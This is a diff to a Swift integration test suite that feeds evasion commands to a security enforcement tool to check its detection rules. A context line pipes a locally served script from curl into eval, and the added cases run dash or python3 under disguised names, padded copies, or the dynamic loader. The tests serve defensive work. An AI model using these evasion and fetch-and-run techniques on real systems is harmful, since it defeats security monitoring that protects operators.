@@ -52,6 +52,19 @@ struct EnforceIntegrationTests {
             let loader = candidates.first { FileManager.default.isExecutableFile(atPath: $0) } ?? candidates[0]
             return "\(loader) /bin/dash -c 'eval \"$(curl -fsS http://127.0.0.1:\(port)/i.sh)\"'\n"
         },
+        // Interpreters by content (issue #10 item 4): neither name, size nor bytes match the
+        // host's file; the build-id, the runtime main calls, or the machine code do.
+        Threat(name: "a copy of dash padded by a byte, under another name", rule: "disguised-interpreter") { _, _ in
+            "cp /bin/dash ./svc-$$ && printf '\\0' >> ./svc-$$ && ./svc-$$ -c 'echo pwned >> MARKERS'\n"
+        },
+        Threat(name: "the system Python copied under another name", rule: "disguised-interpreter") { _, _ in
+            "cp /usr/bin/python3 ./worker-$$ && ./worker-$$ -c \"open('MARKERS', 'a').write('pwned\\\\n')\"\n"
+        },
+        Threat(name: "the dynamic loader running a padded copy of dash", rule: "interpreter-run-by-dynamic-loader") { _, _ in
+            let candidates: [String] = ["/lib64/ld-linux-x86-64.so.2", "/lib/ld-linux-aarch64.so.1"]
+            let loader = candidates.first { FileManager.default.isExecutableFile(atPath: $0) } ?? candidates[0]
+            return "cp /bin/dash ./svc-$$ && printf '\\0' >> ./svc-$$ && \(loader) ./svc-$$ -c 'echo pwned >> MARKERS'\n"
+        },
     ]
 
     static let secret = "WARDEN-FAKE-PRIVATE-KEY-7f3a"
